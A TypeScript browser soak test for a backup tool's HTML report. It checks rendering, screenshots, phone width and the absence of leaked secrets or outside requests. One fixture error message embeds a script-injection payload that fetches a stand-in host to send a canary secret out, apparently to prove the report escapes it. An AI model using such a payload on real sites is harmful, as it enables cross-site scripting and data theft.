/**
 * The page of `report --html` in a real browser, on none, one and five thousand executions: it shows something, asks for
 * nothing, and fits a phone. A campaign of `npm run soak`, which installs Chromium; the screenshots are for people to look at, in
 * the folder that is printed (DBBACKUP_TEST_SCREENSHOTS names another).
 */
import { mkdir, mkdtemp, readFile } from 'node:fs/promises';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Browser, distinctLines, openBrowser } from '../servers/browser.ts';
import { fillHistory, type Past, storePast } from '../servers/many-runs.ts';
import { makeShop } from '../servers/small-shop.ts';
import { expectCode, makeWorkplace, type Workplace } from './cli.ts';

const day = 86_400_000;
const canary = 'Kanarienvogel-4711';
const config = `
sources:
  shop: { type: sqlite, path: shop.sqlite }
destinations:
  disk: { type: local, path: backups }
  offsite: { type: sftp, host: 127.0.0.1, port: 1, user: backup, path: away, password: '\${CANARY}', retries: 0 }
jobs:
  shop: { description: the shop, source: shop, destinations: disk, retention: { last: 7, daily: 14, weekly: 8 } }
  far: { description: データベース и другие, source: shop, destinations: [disk, offsite] }
`;

/** Frames the page at a phone's width, which the browser's own window cannot have, and writes down how wide it became. */
const phone = (
  width: number,
  height: number,
) => `<!doctype html><html><head><link rel="icon" href="data:,"></head><body style="margin:0">
<iframe src="/page" style="border:0;width:${width}px;height:${height}px"></iframe>
<script>onload = () => {
  const { scrollWidth } = document.querySelector('iframe').contentDocument.documentElement;
  document.body.dataset.width = scrollWidth;
};</script></body></html>`;

const newest = new Date(Date.now() - 30 * 60_000);
const message = `upload to sftp://backup:${canary}@nas/x failed: <script>fetch("http://elsewhere.test/${canary}")</script>`;
const many: Past = {
  ...{ job: 'shop', runs: 4000, everyMs: day / 48, newest, bytes: 40_000_000, note: canary },
  troubles: (index) =>
    index % 90 === 50 ? { status: 'failed', error: { code: 'DESTINATION_FAILED', message, hint: canary } } : undefined,
};
const far: Past = { job: 'far', runs: 1000, everyMs: day / 24, newest, bytes: 9_000_000 };

const worlds: Readonly<Record<string, (place: Workplace) => Promise<string>>> = {
  none: () => Promise.resolve('No backups yet'),
  one: async (place) => {
    expectCode(await place.run('run', 'shop', '--note', canary), 0);
    return '1 of 2 jobs to look at';
  },
  'five-thousand': async (place) => {
    await fillHistory(place.path('state'), [many, far]);
    const source = { type: 'sqlite', fingerprintParts: ['sqlite', hostname(), place.path('shop.sqlite')] };
    await storePast(place.path('backups'), many, source, 40);
    await storePast(place.path('backups'), far, source, 40);
    return '1 of 2 jobs to look at';
  },
};

describe.runIf(process.env['DBBACKUP_SOAK'] === '1')('the report in a browser', () => {
  let browser: Browser;
  let folder: string;
  beforeAll(async () => {
    browser = await openBrowser();
    folder = process.env['DBBACKUP_TEST_SCREENSHOTS'] ?? (await mkdtemp(join(tmpdir(), 'dbbackup-screenshots-')));
    await mkdir(folder, { recursive: true });
    process.stdout.write(`screenshots: ${folder}\n`);
  });
  afterAll(() => browser.close());

  it('can tell a request, a complaint and a blank page at all', async () => {
    browser.pages.set('/control', '<!doctype html><img src="http://elsewhere.test/x.png"><p>seen');
    await browser.dumpDom('/control');
    expect(browser.requests).toContain('GET http://elsewhere.test/x.png');
    const policy = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`;
    browser.pages.set('/control', `<!doctype html>${policy}<img src="http://elsewhere.test/y.png"><script>1</script>`);
    expect((await browser.dumpDom('/control')).complaints).toMatch(/Content Security Policy/);
    expect(browser.requests).not.toContain('GET http://elsewhere.test/y.png');
    browser.pages.set('/control', '<!doctype html>');
    await browser.screenshot('/control', join(folder, 'blank.png'), { width: 600, height: 400 });
    expect(distinctLines(await readFile(join(folder, 'blank.png')))).toBeLessThan(4);
  });

  it.each(Object.entries(worlds))('of %s', { timeout: 300_000 }, async (name, fill) => {
    const place = await makeWorkplace({ CANARY: canary });
    try {
      await place.configure(config);
      makeShop(place.path('shop.sqlite'));
      await mkdir(place.path('state'), { mode: 0o700 });
      const title = await fill(place);
      const args = name === 'none' ? ['shop'] : ['--since', '400d'];
      expectCode(await place.run('report', ...args, '--html', 'page.html'), name === 'none' ? 0 : 7);
      const page = await readFile(place.path('page.html'), 'utf8');
      expect(page).not.toContain(canary);
      await look(name, page, title);
    } finally {
      await place.remove();
    }
  });

  async function look(name: string, page: string, title: string): Promise<void> {
    browser.pages.set('/page', page);
    browser.requests.length = 0;
    const { dom, complaints } = await browser.dumpDom('/page');
    expect(dom).toContain(`<h1>${title}</h1>`);
    expect(dom).not.toContain(canary);
    expect(complaints).toBe('');
    for (const dark of [false, true]) {
      const file = join(folder, `${name}-desktop${dark ? '-dark' : ''}.png`);
      await browser.screenshot('/page', file, { width: 1200, height: 1600, dark });
      expect(distinctLines(await readFile(file))).toBeGreaterThan(150);
    }
    browser.pages.set('/phone', phone(390, 2400));
    await browser.screenshot('/phone', join(folder, `${name}-phone.png`), { width: 500, height: 2400 });
    const framed = await browser.dumpDom('/phone');
    expect(framed.dom).toContain('data-width="390"');
    expect(framed.complaints).toBe('');
    const asked = new Set(browser.requests.filter((request) => !/\/(page|phone)$/.test(request)));
    expect([...asked]).toEqual([]);
  }
});
